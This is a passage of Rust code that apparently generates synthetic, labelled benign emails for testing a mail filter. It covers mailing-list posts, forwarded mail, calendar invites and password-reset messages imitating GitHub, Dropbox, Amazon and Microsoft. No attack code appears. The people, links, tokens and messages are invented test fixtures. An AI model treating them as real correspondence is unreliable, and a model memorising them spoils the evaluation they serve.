            "_______________________________________________\n{} mailing list -- {}\nTo unsubscribe send an email to {}-leave@lists.example.net\n",
            list.name, list.addr, list.name
        );
        let full = format!("{body_text}{footer}");
        let tagged = if let Some(rest) = subject.strip_prefix("Re: ") {
            format!("Re: {} {rest}", list.tag)
        } else {
            format!("{} {subject}", list.tag)
        };
        // Every fourth post: the list rewrites From (DMARC mitigation) and
        // signs as itself.
        let munged = i % 4 == 3;
        let from = if munged {
            mailbox(&format!("{pname} via {}", list.name), list.addr)
        } else {
            mailbox(pname, paddr)
        };
        let mut m = msg(
            &name,
            mailer,
            from,
            list.addr.to_string(),
            &tagged,
            date(
                i / 2 + 1,
                7 * 60 + i * 41,
                i * 3,
                pick(&["+0100", "+0900", "-0800", "+0000", "+0200"], i),
            ),
            plain(&full),
        )
        .header(
            "List-Id",
            &format!("{} <{}>", list.desc, list.addr.replace('@', ".")),
        )
        .header(
            "List-Archive",
            &format!("<https://lists.example.net/archives/list/{}/>", list.addr),
        )
        .header(
            "List-Help",
            &format!(
                "<mailto:{}-request@lists.example.net?subject=help>",
                list.name
            ),
        )
        .header(
            "List-Owner",
            &format!("<mailto:{}-owner@lists.example.net>", list.name),
        )
        .header("List-Post", &format!("<mailto:{}>", list.addr))
        .header(
            "List-Subscribe",
            &format!("<mailto:{}-join@lists.example.net>", list.name),
        )
        .header(
            "List-Unsubscribe",
            &format!("<mailto:{}-leave@lists.example.net>", list.name),
        )
        .header("Precedence", "list");
        m = if munged {
            // The poster's client named the message; the list kept the ID.
            m.message_id(&other_id(&name, mailer, domain_of(paddr)))
                .header("Reply-To", &mailbox(pname, paddr))
                .header("Cc", list.addr)
        } else {
            m.header("Reply-To", list.addr)
        };
        if subject.starts_with("Re: ") {
            let parent = other_id(
                &format!("{name}-parent"),
                Mailer::Thunderbird,
                "lists.example.net",
            );
            m = m
                .header("In-Reply-To", &parent)
                .header("References", &parent);
        }
        let env = Env {
            mail_from: format!(
                "{}-bounces+{}@lists.example.net",
                list.name,
                rcpt.1.replace('@', "=")
            ),
            ip: world_ip("lists.example.net"),
            helo: "mail.lists.example.net".into(),
            auth: if munged {
                Auth::Aligned
            } else {
                Auth::Forwarded {
                    via: "lists.example.net".into(),
                }
            },
            known: i % 5 == 0,
        };
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

fn first_name_of(name: &str) -> &str {
    name.split(' ').next().unwrap_or(name)
}

/// Mail to an employee's old or second address, forwarded by a service that
/// tags the subject or adds a footer (breaking DKIM) and ARC-seals.
fn forwarded() -> Vec<Sample> {
    const KIND: &str = "forwarded";
    struct Fwd {
        via: &'static str,
        alias: &'static str,
        to: (&'static str, &'static str),
        tag: Option<&'static str>,
        footer: Option<&'static str>,
    }
    let fwds = [
        Fwd {
            via: "uni-valencia.example",
            alias: "carla.nunez@uni-valencia.example",
            to: CARLA,
            tag: Some("[EXTERNO] "),
            footer: None,
        },
        Fwd {
            via: "alumni.kit.example",
            alias: "dieter.mueller@alumni.kit.example",
            to: DIETER,
            tag: None,
            footer: Some(
                "\n--\nWeitergeleitet durch den KIT-Alumni-Maildienst. Einstellungen: https://alumni.kit.example/mail\n",
            ),
        },
        Fwd {
            via: "members.ifr-association.example",
            alias: "alice.martin@members.ifr-association.example",
            to: ALICE,
            tag: None,
            footer: Some("\n-- \nThis message was relayed by the IFR member alias service.\n"),
        },
    ];
    // (forwarder, sender name, sender address, mailer, subject, text)
    let mails: [(usize, &str, &str, Mailer, &str, &str); 18] = [
        (
            0,
            "Lucía Fernández",
            "lucia.fernandez.phd@gmail.com",
            Mailer::Gmail,
            "Capítulo 3 de la tesis",
            "Hola Carla,\n\nTe envío el enlace a la versión revisada del capítulo 3. He incorporado tus comentarios sobre la metodología y he ampliado la sección de resultados.\n\nhttps://nube.uni-valencia.example/s/Xk29fLq8\n\n¿Podríamos comentarlo el jueves después de clase?\n\nUn saludo,\nLucía\n",
        ),
        (
            0,
            "Asociación Española de Contabilidad",
            "secretaria@aecon-asociacion.example",
            Mailer::Outlook,
            "Asamblea general - 27 de marzo",
            "Estimados/as socios/as:\n\nOs convocamos a la asamblea general ordinaria el jueves 27 de marzo a las 13:00 en la Facultad de Economía de Valencia y por videoconferencia.\n\nOrden del día:\n1. Aprobación del acta anterior\n2. Cuentas del ejercicio 2024\n3. Ruegos y preguntas\n\nUn saludo,\nSecretaría de la Asociación\n",
        ),
        (
            0,
            "Pablo Ortega",
            "pablo.ortega78@gmail.com",
            Mailer::Gmail,
            "Cena del sábado",
            "¡Hola Carla!\n\n¿Sigue en pie la cena del sábado? Hemos reservado en el sitio de siempre a las 21:30. Dime si venís los dos.\n\nBesos,\nPablo\n",
        ),
        (
            0,
            "CIBSE 2025",
            "cibse2025@congresos-ibero.example",
            Mailer::Esp,
            "CIBSE 2025: ampliación del plazo de envío",
            "Estimada Dra. Núñez:\n\nLe informamos de que el plazo de envío de comunicaciones para CIBSE 2025 se ha ampliado hasta el 4 de abril.\n\nPuede enviar su trabajo a través de la plataforma: https://cibse2025.congresos-ibero.example/envios\n\nAtentamente,\nComité organizador\n",
        ),
        (
            0,
            "Revista de Contabilidad",
            "editorial@revista-contabilidad.example",
            Mailer::Esp,
            "Invitación a revisar el manuscrito RC-2025-0142",
            "Estimada Dra. Núñez:\n\nEn vista de su experiencia, nos gustaría invitarla a revisar el manuscrito \"Determinantes de la morosidad en pymes industriales\".\n\nPara aceptar o rechazar la invitación, acceda a: https://revista-contabilidad.example/review/RC-2025-0142\n\nLe agradeceríamos una respuesta en un plazo de 7 días.\n\nAtentamente,\nEquipo editorial\n",
        ),
        (
            0,
            "Marta Gil",
            "marta.gil@upv.example",
            Mailer::AppleMail,
            "Tribunal de tesis",
            "Carla, ¿puedes formar parte del tribunal de la tesis de Jorge el 9 de mayo? Sería por la mañana, en la UPV. Dime algo esta semana si puedes.\n\nMarta\n",
        ),
        (
            1,
            "Stefan Weber",
            "stefan.weber@web.de",
            Mailer::Thunderbird,
            "Klassentreffen Maschinenbau 2005",
            "Hallo zusammen,\n\nwie versprochen hier die Infos zum 20-jährigen Jubiläum: Wir treffen uns am 24. Mai ab 18 Uhr im Vogelbräu in Karlsruhe. Bitte gebt mir bis Ende April Bescheid, ob ihr kommt.\n\nViele Grüße\nStefan\n",
        ),
        (
            1,
            "KIT Alumni",
            "alumni@kit.example",
            Mailer::Esp,
            "Einladung: Alumni-Abend in Stuttgart",
            "Liebe Alumnae und Alumni,\n\nwir laden Sie herzlich zum Alumni-Abend am 10. April in Stuttgart ein. Nach einem Vortrag zur Zukunft der Mobilität gibt es Zeit für Gespräche.\n\nAnmeldung: https://alumni.kit.example/veranstaltungen/stuttgart-2025\n\nIhr Alumni-Team\n",
        ),
        (
            1,
            "Jens Hoffmann",
            "jens.hoffmann@t-online.de",
            Mailer::Thunderbird,
            "Re: Fotos vom Wandern",
            "Hi Dieter,\n\ndanke für die Fotos! Das Gipfelbild ist super geworden. Nächstes Mal nehmen wir die längere Route.\n\nGruß Jens\n",
        ),
        (
            1,
            "Prof. Dr. Anke Roth",
            "anke.roth@kit.example",
            Mailer::Outlook,
            "Gastvortrag im Sommersemester",
            "Lieber Herr Müller,\n\nhätten Sie Interesse, im Sommersemester einen Gastvortrag in meiner Vorlesung \"Produktionsmanagement\" zu halten? Ein Termin im Juni wäre ideal. Das Thema könnten Sie frei wählen, gern etwas aus der Praxis.\n\nMit freundlichen Grüßen\nAnke Roth\n",
        ),
        (
            1,
            "VDI Bezirksverein",
            "info@vdi-karlsruhe.example",
            Mailer::Esp,
            "Mitgliederversammlung 2025",
            "Sehr geehrte Mitglieder,\n\nhiermit laden wir Sie zur ordentlichen Mitgliederversammlung am 8. April 2025 um 18:30 Uhr ein. Die Tagesordnung finden Sie unter https://vdi-karlsruhe.example/mv2025.\n\nMit freundlichen Grüßen\nDer Vorstand\n",
        ),
        (
            1,
            "Sabine Müller",
            "sabine.mueller@gmx.de",
            Mailer::Gmail,
            "Geburtstag Mama",
            "Hallo Dieter,\n\nfür Mamas Geburtstag hab ich jetzt den Gutschein für das Wellness-Wochenende gekauft, 280 Euro. Wenn du mir deine Hälfte überweisen kannst, wäre super - IBAN hast du ja.\n\nLiebe Grüße\nSabine\n",
        ),
        (
            2,
            "IFR Events",
            "events@ifr-association.example",
            Mailer::Esp,
            "Spring Forum: programme and registration",
            "Dear Alice,\n\nThe programme for the IFR Spring Forum in Paris (15-16 May) is now online. Sessions include cross-border payroll, pay transparency directive readiness, and HR analytics.\n\nRegister before 15 April for the member rate: https://www.ifr-association.example/spring-forum\n\nBest regards,\nIFR Events Team\n",
        ),
        (
            2,
            "Claire Fontaine",
            "claire.fontaine@orange.fr",
            Mailer::Thunderbird,
            "Question sur la transparence salariale",
            "Bonjour Alice,\n\nSuite à notre échange lors du dernier forum, je me permets de vous écrire : comment avez-vous préparé la mise en conformité avec la directive sur la transparence salariale ? Nous commençons tout juste.\n\nBien cordialement,\nClaire Fontaine\nDRH, Atelier Fontaine\n",
        ),
        (
            2,
            "IFR Membership",
            "membership@ifr-association.example",
            Mailer::Esp,
            "Your membership renewal",
            "Dear Alice Martin,\n\nYour IFR membership expires on 30 April 2025. You can renew online in your member area: https://www.ifr-association.example/account/renew\n\nThank you for being part of our community.\n\nIFR Membership Services\n",
        ),
        (
            2,
            "Hannah Brooks",
            "h.brooks@brooks-hr.example",
            Mailer::Gmail,
            "Slides from the webinar",
            "Hi Alice,\n\nThanks again for joining the panel yesterday. Here are the slides and the recording as promised:\n\nhttps://drive.google.com/drive/folders/1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV\n\nBest,\nHannah\n",
        ),
        (
            2,
            "Mathilde Roux",
            "mathilde.roux@free.fr",
            Mailer::Thunderbird,
            "Covoiturage pour le forum",
            "Coucou Alice,\n\nJe descends à Paris en voiture pour le forum, il me reste deux places si tu veux. Départ de Lyon le 14 au soir.\n\nBises,\nMathilde\n",
        ),
        (
            2,
            "IFR Journal",
            "journal@ifr-association.example",
            Mailer::Esp,
            "Call for contributions: autumn issue",
            "Dear members,\n\nThe IFR Journal invites short practitioner articles (1,500-2,500 words) for its autumn issue on remote and hybrid work policies. Submission deadline: 30 June.\n\nGuidelines: https://www.ifr-association.example/journal/guidelines\n\nThe editors\n",
        ),
    ];
    let mut out = Vec::new();
    for (i, (fi, sname, saddr, mailer, subject, text)) in mails.into_iter().enumerate() {
        let f = &fwds[fi];
        let name = format!("{KIND}-{i:02}");
        let full_subject = match f.tag {
            Some(t) => format!("{t}{subject}"),
            None => subject.to_string(),
        };
        let body = match f.footer {
            Some(foot) => plain(&format!("{text}{foot}")),
            None => body_for(mailer, text),
        };
        let mut m = msg(
            &name,
            mailer,
            mailbox(sname, saddr),
            f.alias.to_string(),
            &full_subject,
            date(
                i,
                8 * 60 + i * 47,
                i * 5,
                pick(&["+0100", "+0200", "+0000"], i),
            ),
            body,
        );
        if subject.starts_with("Re:") {
            let parent = other_id(
                &format!("{name}-p"),
                Mailer::Thunderbird,
                domain_of(f.alias),
            );
            m = m
                .header("In-Reply-To", &parent)
                .header("References", &parent);
        }
        let sdom = domain_of(saddr);
        let local = saddr.split('@').next().unwrap_or("");
        let mut rng = Rng::new(&name);
        let env = Env {
            mail_from: format!(
                "SRS0={}={}={sdom}={local}@{}",
                rng.alnum(4),
                rng.alnum(2).to_uppercase(),
                f.via
            ),
            ip: world_ip(f.via),
            helo: format!("mx{}.{}", i % 2 + 1, f.via),
            auth: Auth::Forwarded {
                via: f.via.to_string(),
            },
            known: i % 3 != 1,
        };
        out.push(sample(KIND, i, false, f.to.1, env, m.render()));
    }
    out
}

/// Folds an iCalendar content line at 75 octets.
fn ics_fold(line: &str) -> String {
    let mut out = String::new();
    let mut len = 0;
    for c in line.chars() {
        if len + c.len_utf8() > 75 {
            out.push_str("\r\n ");
            len = 1;
        }
        out.push(c);
        len += c.len_utf8();
    }
    out
}

/// One calendar event.
struct Event<'a> {
    uid: &'a str,
    organizer: (&'a str, &'a str),
    attendees: &'a [(&'a str, &'a str)],
    summary: &'a str,
    start: &'a str,
    end: &'a str,
    tz: &'a str,
    location: &'a str,
    description: &'a str,
    prodid: &'a str,
}

/// An iCalendar REQUEST for one event.
fn ics(e: &Event) -> String {
    let Event {
        uid,
        organizer,
        attendees,
        summary,
        start,
        end,
        tz,
        location,
        description,
        prodid,
    } = *e;
    let mut lines = vec![
        "BEGIN:VCALENDAR".to_string(),
        format!("PRODID:{prodid}"),
        "VERSION:2.0".into(),
        "CALSCALE:GREGORIAN".into(),
        "METHOD:REQUEST".into(),
        "BEGIN:VTIMEZONE".into(),
        format!("TZID:{tz}"),
        "BEGIN:STANDARD".into(),
        "DTSTART:19701025T030000".into(),
        "TZOFFSETFROM:+0200".into(),
        "TZOFFSETTO:+0100".into(),
        "RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU".into(),
        "END:STANDARD".into(),
        "BEGIN:DAYLIGHT".into(),
        "DTSTART:19700329T020000".into(),
        "TZOFFSETFROM:+0100".into(),
        "TZOFFSETTO:+0200".into(),
        "RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU".into(),
        "END:DAYLIGHT".into(),
        "END:VTIMEZONE".into(),
        "BEGIN:VEVENT".into(),
        format!("DTSTART;TZID={tz}:{start}"),
        format!("DTEND;TZID={tz}:{end}"),
        "DTSTAMP:20250303T090000Z".into(),
        format!("ORGANIZER;CN={}:mailto:{}", organizer.0, organizer.1),
        format!("UID:{uid}"),
    ];
    for (cn, addr) in attendees {
        lines.push(format!(
            "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={cn};X-NUM-GUESTS=0:mailto:{addr}"
        ));
    }
    lines.extend([
        format!(
            "DESCRIPTION:{}",
            description
                .replace('\\', "\\\\")
                .replace(',', "\\,")
                .replace(';', "\\;")
                .replace('\n', "\\n")
        ),
        format!("LOCATION:{}", location.replace(',', "\\,")),
        "SEQUENCE:0".into(),
        "STATUS:CONFIRMED".into(),
        format!("SUMMARY:{}", summary.replace(',', "\\,")),
        "TRANSP:OPAQUE".into(),
        "BEGIN:VALARM".into(),
        "ACTION:DISPLAY".into(),
        "DESCRIPTION:REMINDER".into(),
        "TRIGGER;RELATED=START:-PT15M".into(),
        "END:VALARM".into(),
        "END:VEVENT".into(),
        "END:VCALENDAR".into(),
    ]);
    let mut out = String::new();
    for l in lines {
        out.push_str(&ics_fold(&l));
        out.push_str("\r\n");
    }
    out
}

/// Meeting invitations from partners: Outlook with Teams, Google Calendar
/// with Meet, Zoom links; the event as text/calendar.
fn calendar_invite() -> Vec<Sample> {
    const KIND: &str = "calendar-invite";
    let meetings: [(&str, &str, usize); 10] = [
        (
            "Quarterly business review",
            "Agenda:\n1. Volumes and service levels Q1\n2. Open issues and claims\n3. Forecast Q2/Q3",
            60,
        ),
        (
            "Contract renewal 2025-2027",
            "Let's go through the draft renewal and the updated price schedule.",
            45,
        ),
        (
            "Kick-off: warehouse label project",
            "Introductions, scope, timeline and next steps.",
            60,
        ),
        (
            "Weekly sync",
            "Standing weekly call - status and blockers.",
            30,
        ),
        (
            "Demo: new customer portal",
            "A walkthrough of the new ordering portal and Q&A.",
            45,
        ),
        (
            "Abstimmung Liefertermine KW 14",
            "Abstimmung der Liefertermine und Kapazitäten für KW 14.",
            30,
        ),
        (
            "Point mensuel facturation",
            "Revue des factures en attente et des litiges.",
            30,
        ),
        (
            "Revisión del presupuesto 2025",
            "Revisamos juntos el presupuesto actualizado.",
            60,
        ),
        (
            "Audit preparation",
            "Documents required for the annual supplier audit.",
            90,
        ),
        (
            "Lunch & learn: e-invoicing",
            "Short intro to Peppol e-invoicing and what changes for us.",
            60,
        ),
    ];
    let mut out = Vec::new();
    for i in 0..20 {
        let name = format!("{KIND}-{i:02}");
        let p = &PARTNERS[i % PARTNERS.len()];
        let (summary, desc, minutes) = meetings[(i * 3) % meetings.len()];
        let rcpt = pick(&[BOB, CFO, DIETER, CARLA, ALICE, CEO], i);
        let day = 7 + i;
        let start_min = 9 * 60 + (i % 6) * 60 + if i % 4 == 1 { 30 } else { 0 };
        let start = format!("{}T{:02}{:02}00", ymd(day), start_min / 60, start_min % 60);
        let end_min = start_min + minutes;
        let end = format!("{}T{:02}{:02}00", ymd(day), end_min / 60, end_min % 60);
        let mut rng = Rng::new(&name);
        let style = i % 3; // 0: Outlook + Teams, 1: Google Calendar + Meet, 2: Zoom from Outlook
        let organizer = (p.contact, p.contact_addr);
        let attendees = [(rcpt.0, rcpt.1), (p.contact, p.contact_addr)];
        let join = match style {
            0 => format!(
                "https://teams.microsoft.com/l/meetup-join/19%3ameeting_{}%40thread.v2/0?context=%7b%22Tid%22%3a%22{}%22%7d",
                rng.alnum(48),
                rng.hex(32)
            ),
            1 => format!(
                "https://meet.google.com/{}-{}-{}",
                rng.chars_from(b"abcdefghijkmnopqrstuvwxyz", 3),
                rng.chars_from(b"abcdefghijkmnopqrstuvwxyz", 4),
                rng.chars_from(b"abcdefghijkmnopqrstuvwxyz", 3)
            ),
            _ => format!(
                "https://us02web.zoom.us/j/{}?pwd={}",
                rng.digits(11),
                rng.alnum(32)
            ),
        };
        let when_text = format!(
            "{} {:02}:{:02}-{:02}:{:02} (CET)",
            long_date(day),
            start_min / 60,
            start_min % 60,
            end_min / 60,
            end_min % 60
        );
        let (subject, text, html_body, prodid, mailer) = match style {
            0 => {
                let meeting_id = format!(
                    "{} {} {} {}",
                    rng.digits(3),
                    rng.digits(3),
                    rng.digits(3),
                    rng.digits(3)
                );
                let code = rng.alnum(6);
                let text = format!(
                    "{desc}\n\n________________________________________________________________________________\nMicrosoft Teams Need help?<https://aka.ms/JoinTeamsMeeting?omkt=en-US>\nJoin the meeting now<{join}>\nMeeting ID: {meeting_id}\nPasscode: {code}\n________________________________\nFor organizers: Meeting options<https://teams.microsoft.com/meetingOptions/>\n________________________________________________________________________________\n"
                );
                let h = format!(
                    "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><div>{}</div><br><div style=\"width:100%\"><span style=\"white-space:nowrap;color:#5F5F5F\">________________________________________________________________________________</span><div style=\"margin:12px 0\"><span style=\"font-size:24px;font-weight:700;color:#252424\">Microsoft Teams</span> <a href=\"https://aka.ms/JoinTeamsMeeting?omkt=en-US\" style=\"font-size:14px;color:#5B5FC7\">Need help?</a></div><div><a href=\"{join}\" style=\"font-size:20px;font-weight:700;color:#5B5FC7\" target=\"_blank\">Join the meeting now</a></div><div style=\"font-size:14px;color:#616161\">Meeting ID: <span style=\"color:#252424\">{meeting_id}</span><br>Passcode: <span style=\"color:#252424\">{code}</span></div><div style=\"font-size:14px\"><a href=\"https://teams.microsoft.com/meetingOptions/?organizerId={}\" style=\"color:#5B5FC7\">Meeting options</a></div><span style=\"white-space:nowrap;color:#5F5F5F\">________________________________________________________________________________</span></div></body></html>\n",
                    esc(desc).replace('\n', "<br>"),
                    rng.hex(32)
                );
                (
                    summary.to_string(),
                    text,
                    h,
                    "Microsoft Exchange Server 2010",
                    Mailer::Outlook,
                )
            }
            1 => {
                let subj = format!("Invitation: {summary} @ {} ({})", when_text, rcpt.1);
                let eid = rng.alnum(60);
                let text = format!(
                    "{summary}\n{when_text}\n\nJoin with Google Meet\n{join}\n\nJoin by phone\n(DE) +49 30 300195061 PIN: {} #\n\n{desc}\n\nOrganizer\n{}\n\nReply for {} and view more details https://calendar.google.com/calendar/event?action=VIEW&eid={eid}\n\nInvitation from Google Calendar: https://calendar.google.com/calendar/\n\nYou are receiving this email because you are an attendee on the event. To stop receiving future updates for this event, decline this event.\n",
                    rng.digits(9),
                    p.contact_addr,
                    rcpt.1
                );
                let h = format!(
                    "<!doctype html><html><head><meta charset=\"UTF-8\"></head><body><div style=\"font-family:Roboto,Helvetica,Arial,sans-serif\"><h2 style=\"font-size:20px;font-weight:400\">{}</h2><p>{when_text}</p><p><a href=\"{join}\" style=\"background:#1a73e8;color:#fff;padding:8px 16px;border-radius:4px;text-decoration:none\">Join with Google Meet</a></p><p style=\"color:#3c4043\">{}</p><p>Organizer<br>{}</p><table><tr><td><a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=1\">Yes</a></td><td><a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=2\">No</a></td><td><a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=3\">Maybe</a></td><td><a href=\"https://calendar.google.com/calendar/event?action=VIEW&amp;eid={eid}\">More options</a></td></tr></table><p style=\"font-size:11px;color:#70757a\">Invitation from <a href=\"https://calendar.google.com/calendar/\">Google Calendar</a></p></div></body></html>\n",
                    esc(summary),
                    esc(desc).replace('\n', "<br>"),
                    p.contact_addr
                );
                (
                    subj,
                    text,
                    h,
                    "-//Google Inc//Google Calendar 70.9054//EN",
                    Mailer::Gmail,
                )
            }
            _ => {
                let mid = join
                    .split('/')
                    .next_back()
                    .unwrap_or("")
                    .split('?')
                    .next()
                    .unwrap_or("")
                    .to_string();
                let text = format!(
                    "{} is inviting you to a scheduled Zoom meeting.\n\nTopic: {summary}\nTime: {when_text}\n\nJoin Zoom Meeting\n{join}\n\nMeeting ID: {} {} {}\nPasscode: {}\n\n{desc}\n",
                    p.contact,
                    &mid[..3.min(mid.len())],
                    &mid[3.min(mid.len())..7.min(mid.len())],
                    &mid[7.min(mid.len())..],
                    rng.digits(6)
                );
                let h = outlook_html(&text);
                (
                    summary.to_string(),
                    text,
                    h,
                    "Microsoft Exchange Server 2010",
                    Mailer::Outlook,
                )
            }
        };
        let uid = match style {
            1 => format!("{}@google.com", rng.alnum(26).to_lowercase()),
            _ => format!(
                "040000008200E00074C5B7101A82E008000000{}",
                rng.hex_upper(56)
            ),
        };
        let calendar = ics(&Event {
            uid: &uid,
            organizer,
            attendees: &attendees,
            summary,
            start: &start,
            end: &end,
            tz: "Europe/Berlin",
            location: match style {
                0 => "Microsoft Teams Meeting",
                1 => "Google Meet",
                _ => "Zoom",
            },
            description: &text,
            prodid,
        });
        let body = if style == 1 {
            mixed(vec![
                alternative(vec![
                    plain(&text),
                    html(&html_body),
                    calendar_part(&calendar, "REQUEST"),
                ]),
                attachment("application/ics", "invite.ics", calendar.as_bytes()),
            ])
        } else {
            alternative(vec![
                plain(&text),
                html(&html_body),
                calendar_part(&calendar, "REQUEST"),
            ])
        };
        let m = msg(
            &name,
            mailer,
            mailbox(p.contact, p.contact_addr),
            person(rcpt),
            &subject,
            date(
                i / 2,
                10 * 60 + i * 17,
                i * 9,
                if p.lang == "en" && i % 2 == 0 {
                    "+0000"
                } else {
                    "+0100"
                },
            ),
            body,
        );
        let auth = if i % 5 == 4 {
            Auth::SpfOnly
        } else {
            Auth::Aligned
        };
        let env = org_env(p.contact_addr, i, auth, i % 4 != 3);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// A service's own outbound infrastructure.
struct Service {
    display: &'static str,
    from: &'static str,
    mail_from: &'static str,
    helo: &'static str,
}

const GITHUB: Service = Service {
    display: "GitHub",
    from: "noreply@github.com",
    mail_from: "noreply@github.com",
    helo: "out-21.smtp.github.com",
};
const GOOGLE: Service = Service {
    display: "Google",
    from: "no-reply@accounts.google.com",
    mail_from: "3vq8kZwgTCmAwu4-p4kxx7EwqlCF.z7756szpu1xlpq.d70@gaia.bounces.google.com",
    helo: "mail-sor-f69.google.com",
};
const MSA: Service = Service {
    display: "Microsoft account team",
    from: "account-security-noreply@accountprotection.microsoft.com",
    mail_from: "account-security-noreply@accountprotection.microsoft.com",
    helo: "BN8PR05CU002.outbound.protection.outlook.com",
};
const AMAZON: Service = Service {
    display: "Amazon.com",
    from: "account-update@amazon.com",
    mail_from: "2025031409150054c8a1f3e27b4f0d9e2b71c3a8f6e5d4@bounces.amazon.com",
    helo: "a8-31.smtp-out.amazonses.com",
};
const DROPBOX: Service = Service {
    display: "Dropbox",
    from: "no-reply@dropbox.com",
    mail_from: "bounces+8823@em-s.dropbox.com",
    helo: "mail-s1.dropbox.com",
};
const SLACK: Service = Service {
    display: "Slack",
    from: "feedback@slack.com",
    mail_from: "bounces@email.slack.com",
    helo: "o1.email.slack.com",
};
const ZOOM: Service = Service {
    display: "Zoom",
    from: "no-reply@zoom.us",
    mail_from: "bounce@mail.zoom.us",
    helo: "o2.mail.zoom.us",
};
const LINKEDIN: Service = Service {
    display: "LinkedIn",
    from: "security-noreply@linkedin.com",
    mail_from: "s-2ar8xuqk4u0ts@bounce.linkedin.com",
    helo: "mailb-af.linkedin.com",
};
const APPLE: Service = Service {
    display: "Apple",
    from: "noreply@email.apple.com",
    mail_from: "noreply@email.apple.com",
    helo: "rn2-txn-msbadger05104.apple.com",
};
const ATLASSIAN: Service = Service {
    display: "Atlassian",
    from: "noreply@id.atlassian.com",
    mail_from: "bounces@id.atlassian.com",
    helo: "mail.id.atlassian.com",
};

/// A login handle as services show it, "bo*****@example.org".
fn masked(addr: &str) -> String {
    let (local, dom) = addr.split_once('@').unwrap_or((addr, ""));
    format!("{}*****@{dom}", &local[..2.min(local.len())])
}

/// A plain, centred transactional HTML layout with one button.
fn service_html(
    brand: &str,
    color: &str,
    paras: &[String],
    button: Option<(&str, &str)>,
    footer: &str,
) -> String {
    let mut out = format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"></head><body style=\"margin:0;background:#ffffff;font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Helvetica,Arial,sans-serif;font-size:14px;color:#24292f\"><table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\"><table width=\"544\" cellpadding=\"16\"><tr><td style=\"font-size:20px;font-weight:600;color:{color}\">{brand}</td></tr>"
    );
    for p in paras {
        out.push_str(&format!("<tr><td>{p}</td></tr>"));
    }
    if let Some((label, href)) = button {
        out.push_str(&format!(
            "<tr><td><a href=\"{href}\" style=\"background:{color};color:#ffffff;padding:10px 20px;border-radius:6px;text-decoration:none;display:inline-block;font-weight:600\">{label}</a></td></tr>"
        ));
    }
    out.push_str(&format!(
        "<tr><td style=\"font-size:12px;color:#6e7781\">{footer}</td></tr></table></td></tr></table></body></html>\n"
    ));
    out
}

/// Password resets and one-time codes from the services themselves.
fn password_reset() -> Vec<Sample> {
    const KIND: &str = "password-reset";
    let mut out = Vec::new();
    for i in 0..16 {
        let name = format!("{KIND}-{i:02}");
        let rcpt = PEOPLE[(i * 7 + 1) % PEOPLE.len()];
        let mut rng = Rng::new(&name);
        let first = first_name(rcpt);
        let (svc, subject, body): (Service, String, Part) = match i % 8 {
            0 => {
                let token = rng.alnum(60);
                let link = format!("https://github.com/password_reset/{token}");
                let text = format!(
                    "We heard that you lost your GitHub password. Sorry about that!\n\nBut don't worry! You can use the following button to reset your password:\n\n{link}\n\nIf you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset\n\nThanks,\nThe GitHub Team\n"
                );
                let h = service_html(
                    "GitHub",
                    "#1f883d",
                    &[
                        "We heard that you lost your GitHub password. Sorry about that!".into(),
                        "But don’t worry! You can use the following button to reset your password:"
                            .into(),
                    ],
                    Some(("Reset your password", &link)),
                    "If you don’t use this link within 3 hours, it will expire. To get a new password reset link, visit: <a href=\"https://github.com/password_reset\">https://github.com/password_reset</a><br><br>Thanks,<br>The GitHub Team<br><br>GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107",
                );
                (
                    GITHUB,
                    "[GitHub] Please reset your password".into(),
                    alt(&text, &h),
                )
            }
            1 => {
                let link = format!(
                    "https://www.dropbox.com/password_reset?cont={}",
                    rng.alnum(48)
                );
                let paras = vec![
                    format!("Hi {first},"),
                    "Someone recently requested a password change for your Dropbox account. If this was you, you can set a new password here:".into(),
                ];
                let h = service_html(
                    "Dropbox",
                    "#0061fe",
                    &paras,
                    Some(("Reset password", &link)),
                    "If you don't want to change your password or didn't request this, just ignore and delete this message.<br><br>To keep your account secure, please don't forward this email to anyone. See our <a href=\"https://help.dropbox.com/security\">Help Center</a> for more security tips.<br><br>Happy Dropboxing!",
                );
                (
                    DROPBOX,
                    "Reset your Dropbox password".into(),
                    alt(&html_to_text(&h), &h),
                )
            }
            2 => {
                let code = rng.digits(6);
                let text = format!(
                    "To authenticate, please use the following One Time Password (OTP):\n\n{code}\n\nDon't share this OTP with anyone. Our customer service team will never ask you for your password, OTP, credit card, or banking info.\n\nWe hope to see you again soon.\n"
                );
                let h = service_html("amazon", "#232f3e", &[
                    "To authenticate, please use the following One Time Password (OTP):".into(),
                    format!("<span style=\"font-size:24px;font-weight:bold\">{code}</span>"),
                    "Don't share this OTP with anyone. Our customer service team will never ask you for your password, OTP, credit card, or banking info.".into(),
                    "We hope to see you again soon.".into(),
                ], None, "© 2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon.com, Inc. 410 Terry Avenue N., Seattle, WA 98109.");
                (
                    AMAZON,
                    "amazon.com: Password assistance".into(),
                    alt(&text, &h),
                )
            }
            3 => {
                let code = rng.digits(6);
                let remove = format!("https://account.live.com/dp?ft={}", rng.alnum(80));
                let text = format!(
                    "Microsoft account\n\nPassword reset code\n\nPlease use this code to reset the password for the Microsoft account {}.\n\nHere is your code: {code}\n\nIf you don't recognize the Microsoft account {}, you can click {remove} to remove your email address from that account.\n\nThanks,\nThe Microsoft account team\n",
                    masked(rcpt.1),
                    masked(rcpt.1)
                );
                let h = service_html(
                    "Microsoft account",
                    "#0078d4",
                    &[
                        "<span style=\"font-size:28px;color:#2672ec\">Password reset code</span>"
                            .into(),
